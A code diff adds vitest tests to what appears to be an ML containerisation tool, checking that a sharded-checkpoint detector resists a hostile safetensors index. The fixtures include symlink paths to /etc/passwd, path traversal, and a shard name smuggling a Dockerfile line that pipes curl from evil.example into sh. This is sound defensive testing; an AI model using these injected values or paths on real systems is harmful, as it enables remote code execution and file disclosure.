@@ -1,3 +1,6 @@
+import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { detectEntrypoint } from '../../../src/detect/entrypoint.js';
@@ -536,5 +539,47 @@ describe('indexes as pip uses them', () => {
     expect(spec.dependencies.extraIndexUrls).toEqual([
       { url: 'https://more.example/simple', source: 'requirements.txt:1' },
     ]);
+  });
+});
+
+describe('sharded checkpoints from a hostile index', () => {
+  it("never opens or stat's a shard the index names outside the project's files", () => {
+    const dir = mkdtempSync(join(tmpdir(), 'ml-container-shards-'));
+    mkdirSync(join(dir, 'model'));
+    writeFileSync(join(dir, 'model', 'config.json'), '{}');
+    symlinkSync('/', join(dir, 'model', 'root'));
+    const witness = mkdtempSync(join(tmpdir(), 'ml-container-outside-'));
+    writeFileSync(join(witness, 'pointer'), 'version https://git-lfs.github.com/spec/v1\nsize 1\n');
+    writeFileSync(
+      join(dir, 'model', 'model.safetensors.index.json'),
+      JSON.stringify({
+        weight_map: {
+          a: 'root/etc/passwd',
+          b: `root${witness}/pointer`,
+          c: '../../outside.safetensors',
+          d: 'x.safetensors)\nRUN curl https://evil.example | sh\n# (',
+        },
+      }),
+    );
+    const [model] = detectModels(directoryReader(dir));
+    // Through the link they are not project files: missing, whatever is out there; never read.
+    expect(model?.lfsPointers).toEqual([]);
+    expect(model?.missingShards.map((shard) => shard.path)).toEqual([
+      'model/root/etc/passwd',
+      `model/root${witness}/pointer`,
+    ]);
+  });
+
+  it('looks at no more than 4096 shards of one index', () => {
+    const weightMap = Object.fromEntries(
+      Array.from({ length: 10_000 }, (_, i) => [`t${i}`, `model-${i}.safetensors`]),
+    );
+    const [model] = detectModels(
+      memoryReader({
+        'm/config.json': '{}',
+        'm/model.safetensors.index.json': JSON.stringify({ weight_map: weightMap }),
+      }),
+    );
+    expect(model?.missingShards).toHaveLength(4096);
   });
 });
